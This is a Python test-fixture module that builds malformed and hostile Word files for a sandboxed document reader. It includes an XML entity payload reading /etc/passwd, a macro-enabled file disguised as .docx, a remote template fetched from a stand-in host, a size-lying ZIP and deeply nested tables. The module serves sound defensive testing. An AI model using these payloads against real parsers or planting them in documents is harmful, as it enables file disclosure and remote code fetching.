"""Word files of tests: honest ones by the library, others by their bare parts."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from eoffice.sandbox.job import SandboxJob
from eoffice.sandbox.limits import Limits
from workflow.word_files.reading.task import read_word

MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
ENTITIES = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c SYSTEM "file:///etc/passwd">]>'
)


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def word(*paragraphs: str) -> bytes:
    """A file of plain paragraphs."""
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    return saved(document)


def xml_file(body: str) -> bytes:
    """A file whose body is this WordprocessingML."""
    document = docx.Document()
    holder = parse_xml(f"<w:body {nsdecls('w', 'r', 'wp', 'a', 'pic')}>{body}</w:body>")
    for child in reversed(list(holder)):
        document.element.body.insert(0, child)
    return saved(document)


def read(data: bytes, *, keep_head: bool = False) -> dict[str, Any]:
    """What the task answers, without a process of its own."""
    job = SandboxJob(data=data, scratch=Path(), limits=Limits())
    return read_word(job, keep_head=keep_head)


def told(answer: dict[str, Any]) -> dict[str, tuple[int, list[int]]]:
    """What was left out, by kind."""
    return {row["kind"]: (row["times"], row["pages"]) for row in answer["dropped"]}


def changed(data: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """The file with one of its parts written anew."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            text = old.read(name)
            new.writestr(name, change(text.decode()) if name == part else text)
    return out.getvalue()


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def with_macros() -> bytes:
    """What Word saves as .docm, under the name of a .docx."""
    return changed(
        word("Isi."),
        "[Content_Types].xml",
        lambda text: re.sub(r"application/[\w.-]+\.document\.main\+xml", MACROS, text),
    )


def with_entities() -> bytes:
    return changed(
        word("Isi &b;"),
        "word/document.xml",
        lambda text: re.sub(r"(<\?xml[^>]*\?>\s*)", rf"\1{ENTITIES}", text, count=1),
    )


def with_outside_template() -> bytes:
    """A template that Word would fetch when the file is opened."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006'
        f'/relationships"><Relationship Id="rId1" Type="{kind}/attachedTemplate" '
        'Target="https://jahat.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return with_part(word("Isi."), "word/_rels/settings.xml.rels", relations.encode())


def nested_tables(depth: int) -> bytes:
    inner = "<w:p><w:r><w:t>dalam</w:t></w:r></w:p>"
    for _level in range(depth):
        inner = f"<w:tbl><w:tr><w:tc>{inner}<w:p/></w:tc></w:tr></w:tbl>"
    text = "<w:p/>"
    return changed(
        xml_file(text),
        "word/document.xml",
        lambda whole: whole.replace("<w:body>", f"<w:body>{inner}", 1),
    )


def lying_sizes() -> bytes:
    """A part that says it is small and unpacks to more."""
    data = changed(
        word("Isi."), "word/document.xml", lambda text: f"{text}{' ' * 9**6}"
    )
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        size = archive.getinfo("word/document.xml").file_size
    return data.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def locked() -> bytes:
    """The shape of what Word saves under a password: no ZIP, a store of streams."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return head + "EncryptedPackage".encode("utf-16-le") + bytes(512)
